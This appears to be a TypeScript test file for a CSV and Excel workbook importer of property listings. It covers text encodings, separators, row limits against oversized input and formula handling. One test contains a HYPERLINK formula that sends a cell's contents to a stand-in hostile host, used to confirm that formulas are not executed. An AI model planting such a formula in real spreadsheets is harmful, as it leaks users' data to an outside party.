import { decodeText, FileError, MAX_ROWS, readCsv, readWorkbook } from './index.ts'
import { partsOf, reading, rowXml } from '../testing/workbook.ts'

const csv = 'Código;Título;Preço\r\nA1;"Apê com ""vista""; à venda";450.000\r\n'
const text = {
  headings: ['Código', 'Título', 'Preço'],
  rows: [{ row: 2, cells: ['A1', 'Apê com "vista"; à venda', '450.000'] }],
}

const wide = (content: string, isBig: boolean) => {
  const bytes = new Uint8Array(content.length * 2)
  const view = new DataView(bytes.buffer)
  for (let index = 0; index < content.length; index += 1)
    view.setUint16(index * 2, content.charCodeAt(index), !isBig)
  return bytes
}
const latin1 = (content: string) => Uint8Array.from(content, (letter) => letter.charCodeAt(0))
const utf8 = (content: string) => new TextEncoder().encode(content)

test.each([
  ['UTF-8', utf8(csv)],
  ['UTF-8 with a mark', utf8(`\ufeff${csv}`)],
  ['ISO-8859-1', latin1(csv)],
  ['UTF-16 with a mark', wide(`\ufeff${csv}`, false)],
  ['UTF-16 of the other order with a mark', wide(`\ufeff${csv}`, true)],
])('a table in %s is read', (_name, bytes) => expect(readCsv(decodeText(bytes))).toEqual(text))

test('totals and headings once more are no rows', () => {
  const head = 'REF;TIPO;VALOR'
  expect(
    readCsv([head, 'C1;Casa;1', head, 'C2;Total Flex;2', 'TOTAL;;3', 'Total geral:;2;'].join('\n')).rows.map(
      ({ row }) => row,
    ),
  ).toEqual([2, 4])
})

test.each([';', ',', '\t', '|'])('the separator %j is found', (separator) => {
  const lines = [
    ['Código', 'Título', 'Preço'],
    ['A1', 'Casa', '450'],
    ['A2', 'Casa', '460'],
  ]
  expect(readCsv(lines.map((line) => line.join(separator)).join('\n'))).toEqual({
    headings: lines[0],
    rows: [
      { row: 2, cells: lines[1] },
      { row: 3, cells: lines[2] },
    ],
  })
})

test('the line that names the separator is none of the table', () => {
  expect(readCsv(`sep=,\nCódigo,Título\nA1,Casa`).headings).toEqual(['Código', 'Título'])
})

test('an XML says its encoding', () => {
  expect(decodeText(latin1('<?xml version="1.0" encoding="ISO-8859-1"?><a>São José</a>'))).toContain(
    'São José',
  )
  expect(decodeText(latin1('<?xml version="1.0" encoding="UTF-8"?><a>São José</a>'))).toContain('São José')
})

test('signs that XML has no place for are read as Excel means them', async () => {
  const cells = [{ value: 'Sala_x000D_\nampla' }, { value: '0', type: 's' }]
  const parts = partsOf(rowXml([{ value: 'Título' }, { value: 'Obs' }]) + rowXml(cells), ['a_x0009_b'])
  expect((await readWorkbook(reading(parts))).rows[0]?.cells).toEqual(['Sala\r\nampla', 'a\tb'])
})

const problemOf = async (run: () => unknown) => {
  try {
    await run()
  } catch (error) {
    if (error instanceof FileError) return error.problem
    throw error
  }
  return undefined
}

test('a quote that does not end, a table without rows and one without text are refused', async () => {
  expect(await problemOf(() => readCsv('Código;Título\nA1;"Casa\nA2;Casa'))).toBe('broken')
  expect(await problemOf(() => readCsv('Código;Título\n\n'))).toBe('no-listings')
  expect(await problemOf(() => readCsv('\n \n'))).toBe('empty')
})

test('a million rows are refused, and 5,000 are read', async () => {
  const table = (rows: number) => `Código;Título\n${'A;Casa\n'.repeat(rows)}`
  expect(await problemOf(() => readCsv(table(1_000_000)))).toBe('too-many-rows')
  expect(readCsv(table(MAX_ROWS)).rows).toHaveLength(MAX_ROWS)
})

test('blank lines of a table count as no rows, but keep their numbers', async () => {
  const table = (rows: number) => `Código;Título\n\n${'A;Casa\n;\n'.repeat(rows)}`
  const { rows } = readCsv(table(MAX_ROWS))
  expect(rows).toHaveLength(MAX_ROWS)
  expect(rows.at(-1)?.row).toBe(2 * MAX_ROWS + 1)
  expect(await problemOf(() => readCsv(table(MAX_ROWS + 1)))).toBe('too-many-rows')
})

test('the first visible sheet of a workbook: shared texts, days, numbers with a comma, yes and no', async () => {
  const head = ['Código', 'Título', 'Área total', 'Disponível a partir de', 'Ativo', 'Andar']
  const row = [
    { value: '0', type: 's' },
    { value: '1', type: 's' },
    { value: '1.234', type: 'n' },
    { value: '46086', type: 'n', style: 1 },
    { value: '1', type: 'b' },
    { value: '#N/A', type: 'e' },
  ]
  const parts = partsOf(rowXml(head.map((value) => ({ value }))) + rowXml(row), ['A<1', 'Casa & quintal'])
  expect(await readWorkbook(reading(parts))).toEqual({
    headings: head.slice(0, 6),
    rows: [{ row: 2, cells: ['A<1', 'Casa & quintal', '1,23', '2026-03-05', 'Sim'] }],
  })
})

test('a formula is not run: its stored value counts', async () => {
  const formula = 'HYPERLINK("https://mau.example?"&A1;"Casa")'
  const sheet = rowXml([{ value: 'Título' }]) + rowXml([{ value: 'Casa', formula }])
  expect((await readWorkbook(reading(partsOf(sheet)))).rows).toEqual([{ row: 2, cells: ['Casa'] }])
})

test('a cell at the end of the world makes no million of empty ones', async () => {
  const far = (place: string) =>
    readWorkbook(
      reading(
        partsOf(
          `${rowXml([{ value: 'Título' }])}<row r="2"><c r="A2" t="str"><v>Casa</v></c></row><row><c r="${place}" t="str"><v>x</v></c></row>`,
        ),
      ),
    )
  expect(await problemOf(() => far('A1048576'))).toBe('too-many-rows')
  expect((await far('XFD3')).rows).toHaveLength(1)
})

test('a million rows of a workbook are refused before they are all read', async () => {
  let read = 0
  async function* endless() {
    yield '<worksheet><sheetData>'
    for (; read < 1_000_000; read += 1) yield await Promise.resolve(rowXml([{ value: 'Casa' }]))
    yield '</sheetData></worksheet>'
  }
  const parts = reading(partsOf(''))
  const part = (path: string) => (path.endsWith('sheet2.xml') ? endless() : parts(path))
  expect(await problemOf(() => readWorkbook(part))).toBe('too-many-rows')
  expect(read).toBeLessThan(MAX_ROWS * 1.1)
})
